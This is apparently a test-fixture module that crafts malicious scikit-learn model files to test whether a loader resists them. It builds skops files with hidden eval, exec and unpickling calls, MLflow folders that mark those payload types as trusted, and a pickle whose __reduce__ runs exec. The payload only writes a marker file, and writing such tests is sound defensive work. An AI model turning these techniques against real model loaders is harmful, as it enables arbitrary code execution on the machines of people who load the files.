"""Real malicious model files, as an attacker would craft them, for the model-loading fault tests.

Each payload is a skops node that makes skops CALL a function with arguments from the file while it
loads (skops' `ConstructorFromReduceNode`: `module.name(*args)`), hidden as an extra attribute of a
genuine fitted LogisticRegression. Loaded by anything that trusts the payload's type, it creates
`marker` (the proof that code ran). The types are what an attacker picks: `builtins.eval`, and
functions inside NumPy and scikit-learn that exec a string, unpickle a file or run a Python script,
which a check by module prefix (`numpy.`, `sklearn.`) let through.

`model_folder` wraps such a file in an MLflow model folder whose MLmodel asks to trust the payload's
type, as MLflow itself would honour it (`mlflow.sklearn.load_model` passes that list to skops).
"""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from pathlib import Path
from typing import Any

import numpy as np

PAYLOADS = (
    "builtins.eval",
    "numpy.testing.runstring",
    "numpy.load",
    "sklearn.utils._testing.assert_run_python_script_without_output",
)
"""Types of the crafted callables; the last three passed the old check by module prefix."""


def _touch(marker: Path) -> str:
    return f"__import__('pathlib').Path({str(marker)!r}).write_text('pwned')"


class _Exec:
    """Unpickling this runs `code` (pickle calls `exec(code)`): the payload of a pickled .npy file."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (exec, (self.code,))


def _call(type_name: str, marker: Path) -> tuple[str, str, tuple]:
    """(module, name, args) of a call that creates `marker`."""
    code = _touch(marker)
    if type_name == "builtins.eval":
        return "builtins", "eval", (code,)
    if type_name == "numpy.testing.runstring":  # exec(astr, dict)
        return "numpy.testing", "runstring", (code, {})
    if type_name == "numpy.load":  # numpy.load(file, mmap_mode, allow_pickle=True): unpickles the file
        npy = marker.with_name(marker.name + ".npy")
        array = np.empty(1, dtype=object)
        array[0] = _Exec(code)
        with open(npy, "wb") as handle:
            np.lib.format.write_array(handle, array, allow_pickle=True)
        return "numpy", "load", (str(npy), None, True)
    if type_name == "sklearn.utils._testing.assert_run_python_script_without_output":
        return "sklearn.utils._testing", "assert_run_python_script_without_output", (code + "\n",)
    raise ValueError(f"unknown payload {type_name}")


def _schema_of(value: Any) -> dict:
    """The skops state of a plain value (str, tuple, dict, None, bool), without memo ids."""
    import skops.io

    state = json.loads(zipfile.ZipFile(io.BytesIO(skops.io.dumps(value))).read("schema.json"))
    for key in ("protocol", "_skops_version"):
        state.pop(key, None)

    def strip(node: Any) -> Any:
        if isinstance(node, dict):
            return {k: strip(v) for k, v in node.items() if k != "__id__"}
        if isinstance(node, list):
            return [strip(v) for v in node]
        return node

    return strip(state)


def host_model() -> Any:
    """A genuine fitted LogisticRegression on two features `f0`, `f1`."""
    import pandas as pd
    from sklearn.linear_model import LogisticRegression

    X = pd.DataFrame({"f0": [0.0, 1.0, 2.0, 3.0] * 5, "f1": [1.0, 0.0, 1.0, 0.0] * 5})
    return LogisticRegression().fit(X, [0, 0, 1, 1] * 5)


def skops_bytes(type_name: str, marker: Path) -> bytes:
    """A skops file of a genuine model with a payload of `type_name` that creates `marker` on load."""
    import skops.io

    module, name, args = _call(type_name, marker)
    source = zipfile.ZipFile(io.BytesIO(skops.io.dumps(host_model())))
    schema = json.loads(source.read("schema.json"))
    attrs = schema["content"]  # the DictNode of the estimator's attributes: add one, with its key type
    attrs["key_types"]["content"].append({"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode"})
    attrs["content"]["_payload"] = {
        "__class__": name,
        "__module__": module,
        "__loader__": "ConstructorFromReduceNode",
        "content": _schema_of(args),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.namelist():
            data = json.dumps(schema).encode() if item == "schema.json" else source.read(item)
            target.writestr(item, data)
    return out.getvalue()


def model_folder(folder: Path, type_name: str | None, marker: Path) -> Path:
    """An MLflow model folder; with `type_name`, its model.skops carries that payload and its MLmodel
    asks to trust it (as the old prefix check and MLflow's loader accepted). None: a genuine model."""
    import mlflow.sklearn
    import yaml

    mlflow.sklearn.save_model(
        host_model(),
        str(folder),
        serialization_format=mlflow.sklearn.SERIALIZATION_FORMAT_SKOPS,
        pip_requirements=["scikit-learn", "skops"],  # MLflow's own inference takes seconds
    )
    if type_name is not None:
        (folder / "model.skops").write_bytes(skops_bytes(type_name, marker))
        mlmodel = yaml.safe_load((folder / "MLmodel").read_text())
        mlmodel["flavors"]["sklearn"]["skops_trusted_types"] = [type_name]
        (folder / "MLmodel").write_text(yaml.safe_dump(mlmodel))
    return folder


def pickle_folder(folder: Path, marker: Path) -> Path:
    """An MLflow model folder saved as cloudpickle whose model file runs code when unpickled."""
    model_folder(folder, None, marker)
    import yaml

    (folder / "model.skops").unlink()
    (folder / "model.pkl").write_bytes(pickle.dumps(_Exec(_touch(marker))))
    mlmodel = yaml.safe_load((folder / "MLmodel").read_text())
    mlmodel["flavors"]["sklearn"].update(pickled_model="model.pkl", serialization_format="cloudpickle")
    mlmodel["flavors"]["sklearn"].pop("skops_trusted_types", None)
    (folder / "MLmodel").write_text(yaml.safe_dump(mlmodel))
    return folder
